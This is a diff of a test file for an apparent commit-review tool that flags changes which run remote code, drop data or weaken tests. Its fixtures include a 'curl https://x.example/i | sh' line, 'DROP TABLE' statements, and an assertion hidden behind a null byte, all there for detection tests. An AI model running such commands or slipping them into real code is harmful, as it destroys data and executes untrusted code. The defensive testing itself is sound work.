@@ -6,10 +6,18 @@ import { workCopy } from './work-copy.ts';
 let work: Awaited<ReturnType<typeof workCopy>>;
 let base = '';
 
+const asserting = "test('a', () => {\n  const x = f();\n  expect(x).toBe(1);\n  expect(y).toBe(2);\n});\n";
+
 beforeAll(async () => {
   work = await workCopy();
   const lines = Array.from({ length: 100 }, (_, index) => `line ${index + 1}\n`).join('');
-  base = await work.commit({ 'long.txt': lines, 'old.sh': 'curl https://x.example/i | sh\n' });
+  base = await work.commit({
+    'long.txt': lines,
+    'old.sh': 'curl https://x.example/i | sh\n',
+    'docs/ways.txt': 'DROP TABLE users;\nSELECT 1;\n',
+    'db/migrations/1.sql': 'DROP TABLE old;\nSELECT 1;\n',
+    'src/a.test.ts': asserting,
+  });
 });
 
 afterAll(() => work.remove());
@@ -40,6 +48,27 @@ test('a file that is moved to where it runs is read as a whole', async () => {
   await work.git('mv', 'old.sh', 'new.sh');
   const head = await work.commit({});
   expect(await judged(head)).toEqual([['runs-remote-code', 'new.sh', 1]]);
+});
+
+test('an odd byte does not hide what a test no longer asserts, also if it is renamed', async () => {
+  const odd = asserting.replace('  expect(y).toBe(2);\n', '  // \0\n');
+  await work.git('checkout', '--quiet', base);
+  const head = await work.commit({ 'src/a.test.ts': odd });
+  expect(await judged(head)).toEqual([['weakens-tests', 'src/a.test.ts', undefined]]);
+  await work.git('checkout', '--quiet', base);
+  await work.git('mv', 'src/a.test.ts', 'src/b.test.ts');
+  expect(await judged(await work.commit({ 'src/b.test.ts': odd }))).toContainEqual([
+    ...['weakens-tests', 'src/b.test.ts', undefined],
+  ]);
+});
+
+test('a text that is moved to where it runs is judged there, and a script that only gets a name is not', async () => {
+  await work.git('checkout', '--quiet', base);
+  await work.git('mv', 'docs/ways.txt', 'db/migrations/2.sql');
+  expect(await judged(await work.commit({}))).toEqual([['drops-data', 'db/migrations/2.sql', 1]]);
+  await work.git('checkout', '--quiet', base);
+  await work.git('mv', 'db/migrations/1.sql', 'db/migrations/3.sql');
+  expect(await judged(await work.commit({}))).toEqual([]);
 });
 
 test('what is beyond the limit is marked as cut, and asked about', async () => {
